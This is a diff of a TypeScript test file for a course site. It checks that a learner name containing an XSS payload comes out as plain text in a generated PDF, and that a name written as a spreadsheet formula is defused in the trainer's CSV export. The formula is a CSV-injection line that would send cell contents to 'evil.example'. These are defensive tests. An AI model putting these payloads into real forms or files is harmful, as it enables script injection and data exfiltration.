@@ -7,7 +7,7 @@
  * (pdftotext) carries the name verbatim.
  */
 import { execFileSync } from 'node:child_process';
-import { existsSync, writeFileSync } from 'node:fs';
+import { writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterAll, beforeAll, expect, test } from 'vitest';
 import type { Browser, BrowserContext } from 'playwright-core';
@@ -15,7 +15,6 @@ import { launchBrowser } from '../e2e/browser.ts';
 import { courseInfo, donePath, passingForm, quizPath, randomKey } from './lib/courses.ts';
 import { sessionCookieOf } from './lib/http.ts';
 import { makeDataDir } from './lib/server.ts';
-import { siteRoot } from './lib/site-build.ts';
 import { createWorld, type World } from './lib/world.ts';
 
 const NAME = '<img src=x onerror=alert(1)><script>alert(1)</script>';
@@ -86,7 +85,7 @@ test('the PDF carries the name as text, verbatim', async () => {
   expect(squeezed(text)).toContain(squeezed(NAME));
 });
 
-test.skipIf(!existsSync(join(siteRoot, 'src', 'pages', '[locale]', 'trainer', 'courses', '[course]', '[table].csv.ts')))(
+test(
   "a name that is a spreadsheet formula is defused in the trainer's CSV export",
   async () => {
     const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
